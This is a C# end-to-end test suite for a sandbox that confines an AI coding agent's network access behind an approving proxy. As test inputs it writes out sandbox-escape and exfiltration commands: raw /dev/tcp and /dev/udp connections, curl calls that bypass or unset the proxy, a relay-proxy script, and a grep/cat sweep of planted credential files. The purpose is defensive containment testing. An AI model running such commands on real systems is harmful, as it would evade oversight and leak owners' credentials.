using System.Net;
using System.Text.Json;
using FakeLlm;
using PocketCoder.Tests.Infrastructure;

namespace PocketCoder.Tests.EndToEnd;

/// <summary>
/// The sandbox holds the network (docs/security.md, "The network"), with the REAL Claude Code CLI in one world for the class: it
/// reaches its model (the fake one, on this machine's loopback) through PocketCoder, and an allowed command reaches nothing
/// else, by any route other sandboxes were found leaking through, unless the owner allows it on the phone.
/// </summary>
public sealed class NetworkSandboxTests(NetworkSandboxTests.World fixture) : IClassFixture<NetworkSandboxTests.World>
{
    /// <summary>Names the tests give to hosts "on the internet": the server connects to them at the test's own listeners.</summary>
    private const string Blocked = "blocked.pocketcoder.test";
    private const string Relayed = "relayed.pocketcoder.test";
    private const string Files = "files.pocketcoder.test";

    public sealed class World : IAsyncLifetime
    {
        public OutsideListeners Outside { get; } = new();

        public AgentWorld Agent { get; private set; } = null!;

        private AgentWorld? _started;

        /// <summary>The path and abstract unix sockets outside.</summary>
        public string PathSocket { get; } = Path.Combine("/var/tmp", $"pc-net-{Guid.NewGuid():N}.sock");

        public string AbstractSocket { get; } = $"pc-net-{Guid.NewGuid():N}";

        public int Loopback { get; private set; }

        public int OtherLoopback { get; private set; }

        public int Ipv6Loopback { get; private set; }

        public int Dns { get; private set; }

        /// <summary>The port every named host answers on (an HTTP server that says "hello from outside").</summary>
        public int Internet { get; private set; }

        public async Task InitializeAsync()
        {
            Loopback = Outside.Tcp("loopback", IPAddress.Loopback);
            OtherLoopback = Outside.Tcp("other loopback address", IPAddress.Parse("127.0.0.2"));
            Ipv6Loopback = Outside.Tcp("IPv6 loopback", IPAddress.IPv6Loopback);
            Dns = Outside.Udp("DNS server");
            Internet = Outside.Tcp("the internet", IPAddress.Loopback, "hello from outside");
            Outside.Unix("path unix socket", PathSocket);
            Outside.Unix("abstract unix socket", "\0" + AbstractSocket);
            var hosts = new Dictionary<string, string> { [Blocked] = "127.0.0.1", [Relayed] = "127.0.0.1", [Files] = "127.0.0.1" };
            Agent = _started = await AgentWorld.StartAsync("claude-code", ClaudeCli.Against, networkHosts: hosts);
        }

        public async Task DisposeAsync()
        {
            if (_started is not null)
            {
                await _started.DisposeAsync();
            }

            await Outside.DisposeAsync();
        }
    }

    private AgentWorld Agent => fixture.Agent;

    /// <summary>
    /// Every way out but the proxy reaches nothing, each tried by a command the owner allowed (a trusted session): this machine's
    /// loopback by port, by another address, by IPv6, by a raw IP without the proxy (<c>--noproxy</c>, <c>--resolve</c>); a DNS
    /// server and a name lookup; a unix socket by path and by abstract name; through the proxy, this machine's loopback is refused
    /// unasked, and a host nobody allowed is asked about and reached only if allowed, even through a second proxy the command starts
    /// inside. The agent meanwhile reached its model, on this machine's loopback, through PocketCoder.
    /// </summary>
    [Fact]
    public async Task AllowedCommand_EveryRouteOutButTheProxy_ReachesNothing_AndTheProxyAsks()
    {
        File.WriteAllText(Path.Combine(Agent.Repository, "relay.py"), RelayScript);
        var (outside, loopback) = (fixture.Outside, fixture.Loopback);
        string[] commands =
        [
            "mkdir -p seen",
            $"(exec 3<>/dev/tcp/127.0.0.1/{loopback} && echo reached) > seen/loopback.txt 2>&1; true",
            $"(exec 3<>/dev/tcp/127.0.0.2/{fixture.OtherLoopback} && echo reached) > seen/other-address.txt 2>&1; true",
            $"(exec 3<>/dev/tcp/::1/{fixture.Ipv6Loopback} && echo reached) > seen/ipv6.txt 2>&1; true",
            $"(echo exfil > /dev/udp/127.0.0.1/{fixture.Dns}; echo exfil > /dev/udp/127.0.0.53/53; getent hosts secret.exfil.pocketcoder.test && echo resolved) > seen/dns.txt 2>&1; true",
            $"python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); print(\"reached\")' {fixture.PathSocket} > seen/path-socket.txt 2>&1; true",
            $"python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(\"\\0\"+sys.argv[1]); print(\"reached\")' {fixture.AbstractSocket} > seen/abstract.txt 2>&1; true",
            $"curl -sS --max-time 30 --noproxy '' -x \"$HTTP_PROXY\" http://127.0.0.1:{loopback}/ > seen/proxy-loopback.txt 2>&1; true",
            $"curl -sS --max-time 5 --noproxy '*' --resolve {Blocked}:{fixture.Internet}:127.0.0.1 http://{Blocked}:{fixture.Internet}/ > seen/noproxy.txt 2>&1; true",
            $"(unset HTTPS_PROXY https_proxy HTTP_PROXY http_proxy; curl -sS --max-time 5 http://127.0.0.1:{fixture.Internet}/) > seen/unset.txt 2>&1; true",
            $"curl -sS --max-time 60 https://{Blocked}:{fixture.Internet}/ > seen/connect.txt 2>&1; true",
            $"python3 relay.py 9999 ${{HTTPS_PROXY##*:}} > relay.pid 2>/dev/null; curl -sS --max-time 60 -x http://127.0.0.1:9999 https://{Relayed}:{fixture.Internet}/ > seen/relayed.txt 2>&1; kill $(cat relay.pid); true",
        ];

        var before = outside.Summary();
        var (session, asked) = await RunAsync(commands, decide: _ => "deny");

        Assert.True(outside.Summary() == before, $"reached from the sandbox: {outside.Summary()} (before: {before})");
        foreach (var file in new[] { "loopback", "other-address", "ipv6", "path-socket", "abstract", "noproxy", "unset", "connect", "relayed" })
        {
            Assert.DoesNotContain("reached", await SeenAsync(file), StringComparison.Ordinal);
            Assert.DoesNotContain("hello from outside", await SeenAsync(file), StringComparison.Ordinal);
        }

        Assert.DoesNotContain("resolved", await SeenAsync("dns"), StringComparison.Ordinal);
        // Through the proxy: this machine is refused without asking anyone; the hosts nobody allowed were asked about, and denied.
        Assert.Contains("this machine", await SeenAsync("proxy-loopback"), StringComparison.Ordinal);
        Assert.Equal([$"network:{Blocked}:{fixture.Internet}", $"network:{Relayed}:{fixture.Internet}"], asked.Select(a => a.Str("tool")!).ToArray());
        Assert.All(asked, a => Assert.Equal("network", a.Str("kind")));
        Assert.Contains("curl", asked[0].Json.GetProperty("input").GetProperty("by").GetString(), StringComparison.Ordinal);
        // The session's timeline has each connection; the agent's own model (on this machine's loopback, reached through
        // PocketCoder's model endpoint: a connection per request) as each request ends, the rest by the time the session has.
        var response = await Agent.Http.DeleteAsync($"/api/sessions/{session}");
        Assert.True(response.IsSuccessStatusCode, await response.Content.ReadAsStringAsync());
        await using var events = await Agent.EventsAsync(session, "0");
        async Task TimelineHasAsync(Func<SseEvent, bool> connection)
        {
            bool Matches(SseEvent e) => e.Event == "network.connection" && connection(e);
            if (!events.Received.Any(Matches))
            {
                await events.WaitForAsync(Matches);
            }
        }

        await TimelineHasAsync(e => e.Str("reason") == "the agent's model" && e.Json.GetProperty("received").GetInt64() > 0);
        await TimelineHasAsync(e => e.Str("host") == Blocked && e.Str("outcome") == "denied");
        await TimelineHasAsync(e => e.Str("host") == "127.0.0.1" && e.Json.GetProperty("port").GetInt32() == loopback && e.Str("outcome") == "denied");
    }

    /// <summary>
    /// A connection to a host nobody allowed is a question on the phone (kind network, with the command that opened it), and the
    /// connection waits: nothing reaches the host until the owner allows it, then it goes through (a CONNECT tunnel). "Always"
    /// adds a project rule for that host and port, which the next session's connection goes through by, unasked (plain HTTP).
    /// </summary>
    [Fact]
    public async Task NewHost_AskedOnThePhone_ReachedOnlyAfterAllow_AndAlwaysIsARuleTheNextSessionUses()
    {
        var outside = fixture.Outside;
        var url = $"http://{Files}:{fixture.Internet}/";
        var reached = outside.Reached("the internet");
        var command = $"mkdir -p seen; curl -sS -p --max-time 120 {url} > seen/first.txt 2>&1; true";
        Agent.Model.Enqueue(Agent.ShellCall(command), ScriptedReply.Text("Fetched."));
        var first = await Agent.StartSessionAsync("Fetch it", mode: "trusted");
        await using (var events = await Agent.EventsAsync(first))
        {
            var asked = await events.WaitForAsync("approval.requested");
            Assert.Equal("network", asked.Str("kind"));
            Assert.Equal($"network:{Files}:{fixture.Internet}", asked.Str("tool"));
            Assert.Equal($"{Files}:{fixture.Internet}", asked.Str("rulePattern"));
            // The program, and the command the agent ran, as the owner would type them: not Claude Code's shell wrapper (#67).
            var input = asked.Json.GetProperty("input");
            Assert.Equal($"curl -sS -p --max-time 120 {url}", input.GetProperty("by").GetString());
            Assert.Equal(command, input.GetProperty("under").GetString());
            // The approval is on the phone's list too, and the host has seen nothing while it waits.
            var pending = await Agent.Http.GetOkAsync("/api/approvals?status=pending");
            Assert.Contains(pending.EnumerateArray(), a => a.GetProperty("id").GetString() == asked.Str("approvalId") && a.GetProperty("kind").GetString() == "network");
            Assert.Equal(reached, outside.Reached("the internet"));

            await ApiAssert.OkJsonAsync(await Agent.DecideAsync(asked.Str("approvalId")!, "allow_always"));
            // The tunnel's end is in the timeline (before the command's result), with what crossed it.
            var connection = await events.WaitForAsync(e => e.Event == "network.connection" && e.Str("host") == Files);
            Assert.Equal("allowed", connection.Str("outcome"));
            Assert.True(connection.Json.GetProperty("received").GetInt64() > 0);
            await events.WaitForAsync("turn.completed");
        }

        Assert.Equal("hello from outside", await SeenAsync("first"));
        var rules = await Agent.Http.GetOkAsync($"/api/projects/{Agent.ProjectId}/rules");
        Assert.Contains(rules.EnumerateArray(), r => r.GetProperty("tool").GetString() == "network"
            && r.GetProperty("pattern").GetString() == $"{Files}:{fixture.Internet}" && r.GetProperty("action").GetString() == "allow");

        // The next session: the rule lets it through, nobody is asked.
        var (second, asked2) = await RunAsync([$"curl -sS --max-time 60 {url} > seen/second.txt 2>&1; true"], decide: _ => "deny");
        Assert.Empty(asked2);
        Assert.Equal("hello from outside", await SeenAsync("second"));
        Assert.Equal(reached + 2, outside.Reached("the internet"));
        Assert.NotEqual(first, second);
    }

    /// <summary>
    /// What an outside check found readable from an allowed command (docs/security.md): the owner's own logins of other agents, and
    /// a subscription login (with its refresh token) the agent does not need, as its environment logs it in with a key. None of it
    /// is in the sandbox, nor copied into the agent's home; and whatever the agent does read could only go to its model.
    /// </summary>
    [Fact]
    public async Task Secrets_OtherAgentsLogins_AndALoginTheAgentDoesNotNeed_AreNotInTheSandbox()
    {
        var home = Agent.Home;
        void Plant(string relative, string text)
        {
            Directory.CreateDirectory(Path.GetDirectoryName(Path.Combine(home, relative))!);
            File.WriteAllText(Path.Combine(home, relative), text);
        }

        Plant(".claude/.credentials.json", """{"claudeAiOauth":{"accessToken":"SECRET-claude-access","refreshToken":"SECRET-claude-refresh"}}""");
        Plant(".claude.json", """{"primaryApiKey":"SECRET-claude-key","oauthAccount":{"emailAddress":"owner@example.org"}}""");
        Plant(".codex/auth.json", """{"tokens":{"refresh_token":"SECRET-codex-refresh"}}""");
        Plant(".gemini/oauth_creds.json", """{"refresh_token":"SECRET-gemini-refresh"}""");
        Plant(".qwen/oauth_creds.json", """{"refresh_token":"SECRET-qwen-refresh"}""");
        Plant(".copilot/config.json", """{"token":"SECRET-copilot-token"}""");
        Plant(".local/share/opencode/auth.json", """{"anthropic":{"refresh":"SECRET-opencode-refresh"}}""");
        try
        {
            // (The pattern does not match itself in the agent's own transcript.)
            await RunAsync(["mkdir -p seen; (grep -rhs 'SECRET[-]' ~ /tmp; cat ~/.claude/.credentials.json ~/.claude.json ~/.codex/auth.json) > seen/secrets.txt 2>&1; true"],
                decide: _ => "deny");

            var copied = Directory.EnumerateFiles(Agent.AgentHomePath(), "*", SearchOption.AllDirectories)
                .Where(file => File.ReadAllText(file).Contains("SECRET-", StringComparison.Ordinal)).ToList();
            Assert.True(copied.Count == 0, $"copied into the agent's home: {string.Join(", ", copied)}");
            Assert.DoesNotContain("SECRET-", await SeenAsync("secrets"), StringComparison.Ordinal);
        }
        finally
        {
            foreach (var folder in new[] { ".codex", ".gemini", ".qwen", ".copilot", ".local/share/opencode" })
            {
                Directory.Delete(Path.Combine(home, folder), recursive: true);
            }

            File.Delete(Path.Combine(home, ".claude", ".credentials.json"));
            File.Delete(Path.Combine(home, ".claude.json"));
        }
    }

    /// <summary>
    /// A second proxy an allowed command could start inside: it only relays to PocketCoder's, which still sees the host asked for. It forks once it listens, and the parent prints the child's pid and exits, so the
    /// command's next step connects to it without a guessed sleep (a "sleep 1" lost the race on a loaded CI machine).
    /// </summary>
    private const string RelayScript = """
        import os, socket, sys, threading
        listen, upstream = int(sys.argv[1]), int(sys.argv[2])
        server = socket.socket()
        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        server.bind(("127.0.0.1", listen))
        server.listen(8)
        child = os.fork()
        if child:
            print(child, flush=True)
            os._exit(0)
        def pipe(a, b):
            try:
                while True:
                    data = a.recv(65536)
                    if not data:
                        break
                    b.sendall(data)
            except OSError:
                pass
            try:
                b.shutdown(socket.SHUT_WR)
            except OSError:
                pass
        while True:
            client, _ = server.accept()
            host = socket.create_connection(("127.0.0.1", upstream))
            threading.Thread(target=pipe, args=(client, host), daemon=True).start()
            threading.Thread(target=pipe, args=(host, client), daemon=True).start()
        """;

    /// <summary>
    /// One trusted turn running each command; the session, and the network approvals it raised (decided by <paramref name="decide"/>;
    /// what a trusted session still asks about otherwise, a command naming agent configuration, is allowed).
    /// </summary>
    private async Task<(string Session, List<SseEvent> Asked)> RunAsync(string[] commands, Func<SseEvent, string> decide)
    {
        Agent.Model.Enqueue([.. commands.Select(Agent.ShellCall), ScriptedReply.Text("All run.")]);
        var session = await Agent.StartSessionAsync("Run the commands", mode: "trusted");
        await using var events = await Agent.EventsAsync(session);
        var asked = new List<SseEvent>();
        long seen = 0;
        while (await events.WaitForAsync(e => e.Id > seen && e.Event is "approval.requested" or "turn.completed") is { Event: "approval.requested" } approval)
        {
            seen = approval.Id;
            var network = approval.Str("kind") == "network";
            if (network)
            {
                asked.Add(approval);
            }

            await ApiAssert.OkJsonAsync(await Agent.DecideAsync(approval.Str("approvalId")!, network ? decide(approval) : "allow_once"));
        }

        var results = events.Received.Where(e => e.Event == "tool.result").Select(e => e.Str("content")).ToList();
        Assert.True(commands.Length == results.Count, $"{results.Count} results of {commands.Length} commands: {string.Join(" | ", results)}");
        _lastResults = string.Join(" | ", results);
        return (session, asked);
    }

    /// <summary>What the last turn's commands printed (in a failure's message).</summary>
    private string _lastResults = "";

    private async Task<string> SeenAsync(string name)
    {
        var path = Path.Combine(Agent.Repository, "seen", name + ".txt");
        Assert.True(File.Exists(path), $"{name}.txt was not written; the commands printed: {_lastResults}");
        return await File.ReadAllTextAsync(path);
    }
}
